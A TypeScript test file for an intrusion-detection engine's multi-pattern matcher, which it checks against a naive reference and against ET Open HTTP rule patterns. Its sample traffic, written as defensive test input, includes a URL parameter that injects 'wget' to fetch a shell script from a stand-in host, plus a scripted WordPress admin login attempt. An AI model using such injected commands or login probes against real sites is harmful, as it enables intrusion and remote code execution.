/**
 * The multi-pattern matcher against a naive reference: seeded random
 * pattern sets (1-byte to long, nocase and case-sensitive mixed, shared ids,
 * binary bytes) over random buffers, plus ET Open's HTTP fast patterns over
 * real payloads when ../shared/data is present.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { MultiPatternMatcher, MatchSet } from '../../src/detect/engine/mpm.js';
import { sharedPath, skipWithoutShared } from '../support/shared.js';
import { mulberry32 as rng } from '../support/random.js';
import { naiveMatches, type NaivePattern } from './mpm-naive.js';

type P = NaivePattern;
const naive = naiveMatches;

function found(hits: MatchSet): Set<number> {
  return new Set(Array.from(hits.ids.subarray(0, hits.count)));
}

test('MatchSet: add once per id, O(1) reset', () => {
  const s = new MatchSet(10);
  s.add(3);
  s.add(3);
  s.add(10);
  assert.equal(s.count, 2);
  assert.equal(s.has(3), true);
  assert.equal(s.has(4), false);
  s.reset();
  assert.equal(s.count, 0);
  assert.equal(s.has(3), false);
  s.add(11); // beyond maxId: ignored
  assert.equal(s.count, 0);
});

test('matcher: edge cases (1-byte, longer than buffer, nocase vs exact, binary, off/len window)', () => {
  const m = new MultiPatternMatcher();
  m.add(Buffer.from('A'), false, 0);
  m.add(Buffer.from('b'), true, 1);
  m.add(Buffer.from('GET '), false, 2);
  m.add(Buffer.from('get '), true, 3);
  m.add(Buffer.from('HTTP/1.1 200'), false, 4);
  m.add(Uint8Array.from([0, 0, 0xff]), false, 5);
  m.add(Buffer.from('xy'), false, 6);
  m.add(Buffer.from('zzz'), true, 6); // same id: "any of"
  m.add(Buffer.from('averyveryverylongpatternindeed'), false, 7);
  m.build();
  assert.equal(m.patternCount, 9);
  assert.ok(m.memoryBytes() > 0);
  const hits = new MatchSet(7);
  const scan = (s: string | Buffer, off = 0, len?: number): number[] => {
    const b = typeof s === 'string' ? Buffer.from(s, 'latin1') : s;
    hits.reset();
    m.scan(b, off, len ?? b.length - off, hits);
    return Array.from(hits.ids.subarray(0, hits.count)).sort((a, c) => a - c);
  };
  assert.deepEqual(scan('GET /'), [2, 3]);
  assert.deepEqual(scan('get /'), [3]);
  assert.deepEqual(scan('a B'), [1]);
  assert.deepEqual(scan('A'), [0]);
  assert.deepEqual(scan(Buffer.from([1, 0, 0, 0xff])), [5]);
  assert.deepEqual(scan('..ZZz..'), [6]);
  assert.deepEqual(scan('xy'), [6]);
  assert.deepEqual(scan('HTTP/1.1 20'), []);
  assert.deepEqual(scan('averyveryverylongpatternindee'), []);
  // The window: "GET " lies partly outside [2, 2+3).
  assert.deepEqual(scan('GET xy', 2, 3), []);
  assert.deepEqual(scan('GET xy', 0, 4), [2, 3]);
  assert.deepEqual(scan(''), []);
  // Without reset, ids accumulate across scans.
  hits.reset();
  m.scan(Buffer.from('A'), 0, 1, hits);
  m.scan(Buffer.from('xy'), 0, 2, hits);
  assert.deepEqual(Array.from(hits.ids.subarray(0, hits.count)).sort(), [0, 6]);
});

test('matcher equals the naive reference on random sets and buffers (seeded property test)', () => {
  for (let round = 0; round < 60; round++) {
    const r = rng(1000 + round);
    // Small alphabets make overlaps and repeats common; some rounds use all bytes.
    const alpha = round % 3 === 0 ? 256 : round % 3 === 1 ? 4 : 30;
    const byte = (): number => (alpha === 256 ? Math.floor(r() * 256) : alpha === 4 ? [0x41, 0x61, 0x00, 0x42][Math.floor(r() * 4)] : 0x41 + Math.floor(r() * alpha) + (r() < 0.5 ? 0x20 : 0));
    const nPat = 1 + Math.floor(r() * (round < 30 ? 20 : 400));
    const pats: P[] = [];
    const m = new MultiPatternMatcher();
    for (let i = 0; i < nPat; i++) {
      const len = r() < 0.15 ? 1 : r() < 0.3 ? 2 + Math.floor(r() * 2) : 4 + Math.floor(r() * 12);
      const bytes = new Uint8Array(len);
      for (let k = 0; k < len; k++) bytes[k] = byte();
      const id = Math.floor(r() * nPat);
      const p = { bytes, nocase: r() < 0.5, id };
      pats.push(p);
      m.add(p.bytes, p.nocase, p.id);
    }
    m.build();
    const hits = new MatchSet(nPat);
    for (let b = 0; b < 20; b++) {
      const blen = Math.floor(r() * 300);
      const buf = Buffer.alloc(blen);
      for (let k = 0; k < blen; k++) buf[k] = byte();
      // Plant some patterns so that hits are not only accidental.
      for (let k = 0; k < 3 && blen > 20; k++) {
        const p = pats[Math.floor(r() * pats.length)];
        const at = Math.floor(r() * Math.max(1, blen - p.bytes.length));
        for (let j = 0; j < p.bytes.length && at + j < blen; j++) buf[at + j] = p.nocase && r() < 0.5 ? p.bytes[j] ^ (isLetter(p.bytes[j]) ? 0x20 : 0) : p.bytes[j];
      }
      const off = Math.floor(r() * Math.min(10, blen + 1));
      const len = Math.max(0, blen - off - Math.floor(r() * 10));
      hits.reset();
      m.scan(buf, off, len, hits);
      assert.deepEqual(found(hits), naive(pats, buf, off, len), `round ${round} buffer ${b}`);
    }
  }
});

function isLetter(c: number): boolean {
  return (c >= 0x41 && c <= 0x5a) || (c >= 0x61 && c <= 0x7a);
}

/** Content patterns of ET Open rules (|hex| decoded, escapes resolved). Quick regex, not the rule parser. */
function etContents(dir: string, filter: (ruleText: string) => boolean): { bytes: Uint8Array; nocase: boolean }[] {
  const out: { bytes: Uint8Array; nocase: boolean }[] = [];
  for (const f of readdirSync(dir).filter((x) => x.endsWith('.rules'))) {
    for (const line of readFileSync(join(dir, f), 'utf8').split('\n')) {
      if (!line.startsWith('alert') || !filter(line)) continue;
      for (const m of line.matchAll(/content:\s*"((?:[^"\\]|\\.)*)"\s*;([^;]*;){0,1}/g)) {
        const bytes = decodeContent(m[1]);
        if (bytes.length === 0) continue;
        const after = line.slice((m.index ?? 0) + m[0].length, (m.index ?? 0) + m[0].length + 80);
        out.push({ bytes, nocase: /^\s*(nocase|[a-z_.]+;\s*nocase)/.test(after) || /nocase/.test(m[0]) });
      }
    }
  }
  return out;
}

function decodeContent(s: string): Uint8Array {
  const out: number[] = [];
  let i = 0;
  while (i < s.length) {
    if (s[i] === '|') {
      const e = s.indexOf('|', i + 1);
      if (e < 0) break;
      for (const h of s.slice(i + 1, e).trim().split(/\s+/)) if (h) out.push(parseInt(h, 16) & 0xff);
      i = e + 1;
    } else if (s[i] === '\\' && i + 1 < s.length) {
      out.push(s.charCodeAt(i + 1) & 0xff);
      i += 2;
    } else {
      out.push(s.charCodeAt(i) & 0xff);
      i++;
    }
  }
  return Uint8Array.from(out);
}

test('matcher equals the naive reference with ET Open HTTP content patterns on HTTP-like buffers', { skip: skipWithoutShared('rules/et-open-2024-04') }, () => {
  const dir = sharedPath('rules/et-open-2024-04') as string;
  const all = etContents(dir, (l) => /http\.(uri|header|user_agent)|http_uri|http_header/.test(l));
  assert.ok(all.length > 1000, `only ${all.length} patterns`);
  const r = rng(7);
  const pats: P[] = [];
  const m = new MultiPatternMatcher();
  for (let i = 0; i < 1500; i++) {
    const c = all[Math.floor(r() * all.length)];
    pats.push({ bytes: c.bytes, nocase: c.nocase, id: i });
    m.add(c.bytes, c.nocase, i);
  }
  m.build();
  const hits = new MatchSet(1500);
  const bodies = [
    'GET /index.php?id=1&cmd=wget%20http://x/a.sh HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n',
    'POST /wp-login.php HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nUser-Agent: python-requests/2.31\r\n\r\nlog=admin&pwd=x',
  ];
  for (const s of bodies) {
    // Plus the contents of random patterns joined, so that many fire.
    const extra = Array.from({ length: 30 }, () => Buffer.from(pats[Math.floor(r() * pats.length)].bytes).toString('latin1')).join('/');
    const buf = Buffer.from(s + extra, 'latin1');
    hits.reset();
    m.scan(buf, 0, buf.length, hits);
    const want = naive(pats, buf, 0, buf.length);
    assert.deepEqual(found(hits), want);
    assert.ok(want.size >= 20);
  }
});
